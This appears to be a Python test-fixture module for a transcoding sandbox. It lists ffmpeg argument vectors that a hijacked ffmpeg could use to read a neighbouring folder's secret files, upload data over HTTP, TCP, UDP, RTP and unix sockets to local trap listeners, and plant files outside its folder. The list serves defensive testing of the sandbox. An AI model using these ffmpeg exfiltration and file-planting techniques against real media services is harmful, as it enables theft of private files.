"""What a run of ffmpeg that fell to a hostile file could do next: its own protocols, filters, muxers and options.

Each way is an argv without our lists of protocols, containers and codecs, as if all of them had failed. Outside
the sandbox every one gets through, which the tests demand; inside, the sandbox alone has to stop it.
"""

from dataclasses import dataclass

from tests.transcode.traps import Traps

CLIP = ("-f", "lavfi", "-i", "testsrc2=size=64x48:rate=25:duration=0.2")
NULL = ("-t", "1", "-f", "null", "-")
TS = ("-c:v", "mpeg2video", "-f", "mpegts")
LISTS = ("-protocol_whitelist", "file,http,https,tcp,tls,udp,rtp,unix,concat,subfile,crypto,data,cache,async,gopher,"
         "ftp,rtmp,mmst,pipe,httpproxy")  # fmt: skip


@dataclass(frozen=True)
class Way:
    """`argv` with the traps' addresses in braces. `made`: the file that it leaves with the neighbour."""

    name: str
    argv: tuple[str, ...]
    made: str = ""
    old: bool = False
    """Open in the system's older build only; ours shuts it by itself."""

    def filled(self, traps: Traps) -> list[str]:
        """argv behind the program's name."""
        facts = {
            "of": str(traps.neighbour), "http": traps.http, "port": traps.ears.port, "udp": traps.ears.udp_port,
            "unix": traps.ears.unix, "sources": str(traps.sources),
        }  # fmt: skip
        return [part.format(**facts) for part in self.argv]


def opened(name: str, address: str, *options: str) -> Way:
    """An address opened as input."""
    return Way(name, (*LISTS, *options, "-i", address, *NULL))


def filtered(name: str, graph: str) -> Way:
    """A filter that opens something by itself, as when user text gets into a filter."""
    return Way(name, (*CLIP, "-vf", graph, *NULL))


def written(name: str, made: str, *argv: str) -> Way:
    """Something left outside of the folder."""
    return Way(name, (*CLIP, *argv), made)


WAYS = [
    opened("file:", "file:{of}/secret.mp4"),
    opened("a path that climbs", "{sources}/../neighbour/secret.mp4"),
    opened("concat:", "concat:{of}/secret.ts|{of}/secret.ts"),
    opened("subfile:", "subfile,,start,0,end,0,,:{of}/secret.mp4"),
    opened("cache:", "cache:{of}/secret.mp4"),
    opened("async:", "async:{of}/secret.mp4"),
    opened("crypto:", "crypto:{of}/secret.ts", "-key", "00" * 16, "-iv", "00" * 16),
    opened("a numbered row of pictures", "{of}/secret%05d.jpg"),
    opened("all pictures by a pattern", "{of}/secret*.jpg", "-f", "image2", "-pattern_type", "glob"),
    opened("a text file as a terminal", "{of}/secret.txt", "-f", "tty"),
    opened("any file as raw pictures", "{of}/secret.key", "-f", "rawvideo", "-s", "2x2"),
    opened("an alias to other samples", "{sources}/dref.mp4", "-enable_drefs", "1", "-use_absolute_path", "1"),
    opened("http:", "{http}/a.ts"),
    opened("tcp:", "tcp://127.0.0.1:{port}?timeout=500000"),
    opened("unix:", "unix:{unix}"),
    opened("gopher:", "gopher://127.0.0.1:{port}/1x"),
    opened("ftp:", "ftp://127.0.0.1:{port}/a.ts"),
    opened("rtmp:", "rtmp://127.0.0.1:{port}/a/b"),
    opened("rtsp:", "rtsp://127.0.0.1:{port}/a", "-rtsp_transport", "tcp"),
    opened("mmst:", "mmst://127.0.0.1:{port}/a"),
    filtered("movie=", "movie={of}/secret.mp4[m];[m]nullsink;[in]null"),
    filtered("movie= of a server", "movie=http\\\\://127.0.0.1\\\\:{port}/a.ts[m];[m]nullsink;[in]null"),
    filtered("sendcmd=", "sendcmd=f={of}/secret.txt"),
    filtered("lut3d=", "lut3d={of}/secret.txt"),
    filtered("curves=", "curves=psfile={of}/secret.txt"),
    Way("-attach", (*CLIP, "-attach", "{of}/secret.txt", "-metadata:s:t", "mimetype=text/plain", "-f", "matroska",
                    "stolen.mkv")),
    Way("-hls_key_info_file", (*CLIP, "-c:v", "mpeg2video", "-f", "hls", "-hls_key_info_file", "{of}/secret.txt",
                               "a.m3u8")),
    Way("an HTTP upload", (*CLIP, *TS, "{http}/stolen")),
    Way("a TCP upload", (*CLIP, *TS, "tcp://127.0.0.1:{port}")),
    Way("a UDP upload", (*CLIP, *TS, "udp://127.0.0.1:{udp}")),
    Way("an RTP upload", (*CLIP, "-c:v", "mpeg2video", "-f", "rtp", "rtp://127.0.0.1:{udp}")),
    Way("an upload to a unix socket", (*CLIP, *TS, "unix:{unix}")),
    Way("a tee with a server in it", (*CLIP, "-map", "0", "-c:v", "mpeg2video", "-f", "tee",
                                     "[f=mpegts]a.ts|[f=mpegts]tcp://127.0.0.1:{port}")),
    written("a file beside a neighbour's", "planted.ts", *TS, "{of}/planted.ts"),
    written("a file over a path that climbs", "planted.ts", *TS, "{sources}/../neighbour/planted.ts"),
    Way("-dump_attachment", ("-dump_attachment:t", "", "-i", "{sources}/attached.mkv", *NULL), "planted.ttf",
        old=True),
    written("a segment outside", "planted0.ts", "-c:v", "mpeg2video", "-f", "segment", "{of}/planted%d.ts"),
    written("-progress", "planted.txt", "-progress", "file:{of}/planted.txt", *NULL),
    written("-vstats_file", "planted.txt", "-vstats_file", "{of}/planted.txt", "-c:v", "mpeg2video", *NULL),
    written("-passlogfile", "planted-0.log", "-c:v", "mpeg2video", "-pass", "1", "-passlogfile", "{of}/planted",
            *NULL),
    written("metadata=print", "planted.txt", "-vf", "metadata=print:file={of}/planted.txt", *NULL),
    written("the statistics of psnr", "planted.txt", "-vf", "split[a][b];[a][b]psnr=stats_file={of}/planted.txt",
            *NULL),
]  # fmt: skip
